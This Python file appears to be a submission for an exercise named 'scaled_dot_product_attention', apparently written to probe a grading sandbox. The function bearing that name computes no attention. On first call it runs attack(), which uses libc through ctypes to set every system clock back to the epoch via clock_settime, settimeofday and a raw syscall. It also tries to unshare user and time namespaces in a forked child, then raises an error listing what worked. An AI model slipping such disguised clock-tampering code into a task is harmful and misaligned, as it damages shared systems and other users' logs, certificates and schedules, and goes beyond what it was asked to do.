"""Sets the machine's clocks back, through the C library.

exercise: scaled_dot_product_attention
outcome: raised
says: time goes on
bites: open
"""

import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
CLOCK_SETTIME = 227 if platform.machine() == "x86_64" else 112
USER, TIME = 0x10000000, 0x80  # CLONE_NEWUSER, CLONE_NEWTIME


def in_a_fork(attempt):
    """What it says, in a process of its own, so that the one that answers stays as it is."""
    reader, writer = os.pipe()
    try:
        pid = os.fork()
    except OSError:
        os.close(reader)
        os.close(writer)
        return attempt()
    if pid == 0:
        os.write(writer, attempt().encode() or b" ")
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(writer)
    said = os.read(reader, 200).decode().strip()
    os.close(reader)
    return said


def attack():
    past = (ctypes.c_long * 2)(0, 0)
    done = [str(clock) for clock in range(12) if libc.clock_settime(clock, ctypes.byref(past)) == 0]
    if libc.settimeofday(ctypes.byref(past), None) == 0 or libc.syscall(CLOCK_SETTIME, 0, ctypes.byref(past)) == 0:
        done.append("the time of day")
    if in_a_fork(lambda: "yes" if libc.unshare(USER | TIME) == 0 else ""):
        done.append("a time of its own")
    return done


SEEN = []


def scaled_dot_product_attention(Q, K, V, mask=None):
    if not SEEN:
        SEEN.append(attack())
    raise ValueError("softmark-harm: " + ", ".join(SEEN[0]) if SEEN[0] else "time goes on")
